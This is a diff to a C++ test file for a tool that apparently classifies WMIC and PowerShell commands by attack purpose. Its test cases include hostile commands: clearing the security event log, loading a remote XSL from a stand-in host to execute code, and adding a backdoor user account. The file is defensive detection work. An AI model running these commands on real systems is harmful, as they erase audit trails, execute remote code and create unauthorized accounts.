@@ -163,7 +163,7 @@ TEST(Purposes, OfWmicCommands) {
        "system-control"},
       {R"(wmic nteventlog where filename="security" cl)", "defense-evasion"},
       {R"(wmic process list /format:"https://a.example/x.xsl")",
-       "command-and-control code-execution process-recon"},
+       "command-and-control code-execution"},
       {"wmic process call create calc.exe", "code-execution"},
       {"wmic process call create \"cmd /c net user bad P@ss /add\"",
        "account-change code-execution"},
@@ -236,6 +236,7 @@ TEST(Purposes, OfPowerShell) {
   };
   for (const Case& c : kCases) {
     std::vector<Payload> payloads;
+    add_script_words(c.script, payloads);
     for (const WmiCall& call : find_wmi_calls(c.script)) {
       add_payloads(call, is_remote(call), payloads);
     }
